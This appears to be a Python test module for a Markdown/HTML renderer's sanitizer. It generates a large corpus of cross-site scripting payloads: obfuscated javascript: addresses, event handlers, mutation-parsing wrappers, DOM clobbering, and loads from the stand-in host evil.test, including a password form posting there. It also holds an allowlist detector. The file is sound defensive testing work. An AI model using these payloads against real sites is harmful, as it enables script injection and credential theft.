# ruff: noqa: E501 - building stones are read one on a line
"""Attacks on a text renderer, made from a few building stones, and a detector that shares no code with the renderer.

Families: script-bearing addresses in every spelling, event handlers, elements that run or load, shapes that mutate when a
browser parses them again, ways out of attributes and raw text, clobbering names. Not a copied list.
"""

import re
from collections.abc import Iterator
from itertools import product
from urllib.parse import urlsplit

from bleach._vendor.html5lib import HTMLParser, getTreeWalker

RUN = "alert(1)"

# Addresses


def script_addresses() -> Iterator[str]:
    word = "javascript"
    yield f"{word}:{RUN}"
    yield f"{word.upper()}:{RUN}"
    yield f"jAvAsCrIpT:{RUN}"
    yield f"{word}://x.test/%0a{RUN}"
    for gap in (
        "\t",
        "\n",
        "\r",
        "\x0b",
        "\x00",
        "\u200b",
        "\u00ad",
        "\ufeff",
        "\u2028",
        "\u00a0",
        "\u3000",
        "\u202e",
        "\u180e",
        "\U000e0001",
    ):
        yield f"{gap}{word}:{RUN}"
        yield f"java{gap}script:{RUN}"
        yield f"{word}{gap}:{RUN}"
    for colon in ("&colon;", "&#58;", "&#x3a;", "&#0000058;", "&#x3A", "\uff1a", "%3a", "&Tab;:", "&NewLine;:"):
        yield f"{word}{colon}{RUN}"
    for letter in ("&#106;", "&#x6a;", "&#0000106", "&#x000006A", "\uff4a", "%6a"):
        yield f"{letter}avascript:{RUN}"
    yield "vbscript:msgbox(1)"
    yield f"data:text/html,<script>{RUN}</script>"
    yield "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
    yield "data:image/svg+xml,<svg onload=alert(1)>"
    yield f"feed:{word}:{RUN}"
    yield f"view-source:{word}:{RUN}"
    yield "blob:https://x.test/1"
    yield "file:///etc/passwd"
    yield "filesystem:https://x.test/temporary/a"
    yield f"livescript:{RUN}"
    yield "intent://x#Intent;scheme=http;end"
    yield "\\\\evil.test/x"
    yield "/\\evil.test/x"
    yield "//evil.test/x"
    yield "///evil.test/x"
    yield "https:evil"
    yield "http:/\\evil.test"
    yield "https://good.test@evil.test/"
    yield "\x01javascript:alert(1)"


MARKDOWN_LINK_FORMS = (
    "[a]({0})",
    "[a](<{0}>)",
    '[a]({0} "t")',
    "![a]({0})",
    "![a](<{0}>)",
    "[![a]({0})](/x)",
    "[![a](/media/x.png)]({0})",
    "<{0}>",
    "{0}",
    "[a][r]\n\n[r]: {0}",
    "[a][r]\n\n[r]: <{0}>",
    "[r]\n\n[r]: {0} 't'",
    "![r]\n\n[r]: {0}",
    "> [!NOTE]\n> [a]({0})",
    "| a |\n|---|\n| [a]({0}) |",
    "# [a]({0})",
    "- [a]({0})",
)
HTML_LINK_FORMS = (
    '<a href="{0}">x</a>',
    "<a href='{0}'>x</a>",
    "<a href={0}>x</a>",
    '<A HREF="{0}">x</A>',
    '<img src="{0}">',
    '<iframe src="{0}"></iframe>',
    '<form action="{0}"><button>x</button></form>',
    '<button formaction="{0}">x</button>',
    '<svg><a xlink:href="{0}"><text y="9">x</text></a></svg>',
    '<math><mi xlink:href="{0}">x</mi></math>',
    '<object data="{0}"></object>',
    '<embed src="{0}">',
    '<base href="{0}">',
    '<link rel="stylesheet" href="{0}">',
    '<meta http-equiv="refresh" content="0;url={0}">',
    '<blockquote cite="{0}">x</blockquote>',
    '<video poster="{0}"><source src="{0}"></video>',
    '<area href="{0}">',
    '<div class="lazyYT" data-youtube-id="{0}">x</div>',
    '<aside class="onebox"><a href="{0}"><img src="{0}"></a></aside>',
)

# Handlers

EVENTS = """abort animationend animationstart auxclick beforeinput beforetoggle blur canplay change click close contextmenu copy
    cuechange cut dblclick drag dragend dragstart drop ended error focus focusin focusout formdata hashchange input invalid
    keydown keypress keyup load loadstart message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup pageshow
    paste play playing pointerdown pointerenter pointermove pointerover popstate ratechange reset resize scroll scrollend search
    select selectstart show submit suspend toggle touchstart transitionend unload wheel""".split()
CARRIERS = "a img p div span code table section details blockquote h2 svg button input video marquee custom-x".split()
ATTRIBUTE_FORMS = (
    ' on{0}="{1}"',
    " on{0}='{1}'",
    " on{0}={1}",
    '/on{0}="{1}"',
    '\ton{0}\n=\n"{1}"',
    ' ON{0}="{1}"',
    ' x="y"on{0}="{1}"',
)

# Elements that run, load or restyle; shapes that change when parsed again

RUNNERS = (
    f"<script>{RUN}</script>",
    "<script src=//evil.test/x.js></script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\x00>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x'><script>{RUN}</script></svg>#x\"/></svg>",
    f"<math><mtext></p><img src=x onerror={RUN}></mtext></math>",
    "<style>@import '//evil.test/x.css';</style>",
    "<style>*{background:url(//evil.test)}</style>",
    "<p style=\"background:url('javascript:alert(1)')\">x</p>",
    "<p style=position:fixed;inset:0>x</p>",
    "<link rel=import href=//evil.test>",
    "<meta charset=utf-7>",
    "<base target=_blank href=//evil.test/>",
    "<form action=//evil.test><input name=password></form>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<a href=/x target=_blank rel=opener id=x name=location>x</a>",
    "<img name=getElementById src=/media/x.png>",
    "<p id=search class='dialog open' tabindex=1 accesskey=x contenteditable draggable=true>x</p>",
    "<div is=x-evil slot=y part=z itemscope>x</div>",
    "<portal src=//evil.test></portal>",
    "<h2 id=location>x</h2><h3 id='h-a b'>x</h3>",
    "<pre tabindex=5>x</pre><div tabindex=-1>x</div>",
    "<ol start=-9><li>x</li></ol><table><tr><td align=justify onclick=x>x</td></tr></table>",
    "<dialog open>x</dialog>",
    "<button popovertarget=x>x</button><p popover id=x>y</p>",
)
WRAPPERS = (
    "{0}",
    "<svg>{0}</svg>",
    "<svg><style>{0}</style></svg>",
    "<math><mtext><table><mglyph><style>{0}</style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'>{0}</annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math>{0}",
    "<svg></p><style><a id='</style>{0}'>",
    "<svg><desc>{0}</desc></svg>",
    "<svg><foreignObject>{0}</foreignObject></svg>",
    "<noscript><p title='</noscript>{0}'></noscript>",
    "<title><p title='</title>{0}'></title>",
    "<textarea><p title='</textarea>{0}'></textarea>",
    "<xmp><p title='</xmp>{0}'></xmp>",
    "<iframe><p title='</iframe>{0}'></iframe>",
    "<noembed></noembed>{0}",
    "<style><p title='</style>{0}'></style>",
    "<template>{0}</template>",
    "<select><option>{0}</option></select>",
    "<table>{0}<tr><td>{0}</td></tr></table>",
    "<table><caption><select>{0}</select></caption></table>",
    "<!--{0}-->",
    "<!-->{0}-->",
    "<!--><p title='--!>{0}'>",
    "<![CDATA[{0}]]>",
    "<?xml {0} ?>",
    "<p title='{0}'>x</p>",
    '<p title="{0}">x</p>',
    "<a href='/x' title=`{0}`>x</a>",
    "<code>{0}</code>",
    "<pre><code class='lang-x'>{0}</code></pre>",
    "<details><summary>{0}</summary>{0}</details>",
    "<aside class=quote><div class=title>{0}</div><blockquote>{0}</blockquote></aside>",
    "<b><i><a href=/x>{0}</b></i></a>",
    "<plaintext>{0}",
    "<div class='callout callout-note'><div class='callout-body'>{0}</div></div>",
)

MARKDOWN_FORMS = (
    "{0}",
    "`{0}`",
    "```\n{0}\n```",
    "```{0}\nx\n```",
    '```x" onclick="alert(1)\n{0}\n```',
    "    {0}",
    "# {0}",
    "> {0}",
    "> [!NOTE]\n> {0}",
    "- {0}",
    "| {0} |\n|---|\n| {0} |",
    "[{0}](/x)",
    '[x](/x "{0}")',
    "![{0}](/media/x.png)",
    '![x](/media/x.png "{0}")',
    "![{0}](https://x.test/y.png)",
    "**{0}**",
    "x\n\n[{0}]: /x\n\n[{0}]",
    "\\{0}",
    "&lt;script&gt;{0}",
    "https://x.test/{0}",
    "<https://x.test/{0}>",
)


def markdown_attacks() -> Iterator[str]:
    """Attacks written as Markdown sources."""
    for form, address in product(MARKDOWN_LINK_FORMS, script_addresses()):
        yield form.format(address)
    for form, runner in product(MARKDOWN_FORMS, RUNNERS):
        yield form.format(runner)


def html_attacks() -> Iterator[str]:
    """Attacks written as HTML; most of them would do harm, or load or restyle something, if shown as they are."""
    for form, address in product(HTML_LINK_FORMS, script_addresses()):
        yield form.format(address)
    yield from handler_attacks()
    for wrapper, runner in product(WRAPPERS, RUNNERS):
        yield wrapper.format(runner)


def handler_attacks() -> Iterator[str]:
    for number, event in enumerate(EVENTS):
        for carrier in CARRIERS[number % 3 :: 3]:
            form = ATTRIBUTE_FORMS[(number + len(carrier)) % len(ATTRIBUTE_FORMS)]
            yield f"<{carrier}{form.format(event, RUN)}>x</{carrier}>"


# The detector: what may be in stored HTML, said a second time and more simply than in the code under test.

_ELEMENTS = """p br hr strong em del sub sup kbd blockquote ul ol li a img h2 h3 h4 h5 h6 table thead tbody tr td th details summary
    code pre span div""".split()
_SIMPLE_ATTRIBUTES = {
    ("ol", "start"): r"\d{1,9}",
    ("td", "align"): "left|center|right",
    ("th", "align"): "left|center|right",
    ("pre", "tabindex"): "0",
    ("div", "tabindex"): "0",
    ("a", "rel"): "nofollow ugc noopener",
    ("code", "class"): r"language-[a-z0-9+#.\-]+",
    ("span", "class"): r"[a-z][a-z0-9]{0,2}",
    (
        "div",
        "class",
    ): r"code|scroll|callout-body|callout callout-(note|(tip is-solved)|(important|caution) is-needs|warning is-broken)",
    ("img", "alt"): r"[\s\S]*",
    ("img", "title"): r"[\s\S]*",
    ("a", "title"): r"[\s\S]*",
    **{(f"h{level}", "id"): r"h-[\w-]+" for level in range(2, 7)},
}


def violations(html: str) -> list[str]:
    """Everything in `html`, as a browser would read it, that may not be there."""
    found: list[str] = []
    tree = HTMLParser(namespaceHTMLElements=True).parseFragment(html)
    for token in getTreeWalker("etree")(tree):
        if token["type"] in ("StartTag", "EmptyTag"):
            name = token["name"]
            if name not in _ELEMENTS or not str(token["namespace"]).endswith("xhtml"):
                found.append(f"<{name}>")
            for (_, attribute), value in token["data"].items():
                if not _may_stand(name, attribute, value):
                    found.append(f"<{name} {attribute}={value!r}>")
            if name == "a" and "href" in {key for _, key in token["data"]} and (None, "rel") not in token["data"]:
                found.append("<a> without rel")
        elif token["type"] in ("Comment", "Doctype"):
            found.append(token["type"])
    return found


def _may_stand(name: str, attribute: str, value: str) -> bool:
    if (name, attribute) == ("a", "href"):
        return _harmless_address(value)
    if (name, attribute) == ("img", "src"):
        return re.fullmatch(r"/media/[^\\]*", value) is not None and ".." not in value
    pattern = _SIMPLE_ATTRIBUTES.get((name, attribute))
    return pattern is not None and re.fullmatch(pattern, value) is not None


def _harmless_address(value: str) -> bool:
    if re.search(r"[\x00-\x20\x7f-\xa0\u00ad\u180e\u200b-\u200f\u2028-\u202f\u3000\ufeff\U000e0001]", value):
        return False
    if value.startswith(("#", "/")):
        return not value.startswith(("//", "/\\"))
    parts = urlsplit(value)
    if parts.scheme == "mailto":
        return "@" in parts.path
    return (
        parts.scheme in ("http", "https")
        and value.startswith(f"{parts.scheme}://")
        and bool(parts.hostname)
        and "@" not in parts.netloc
    )
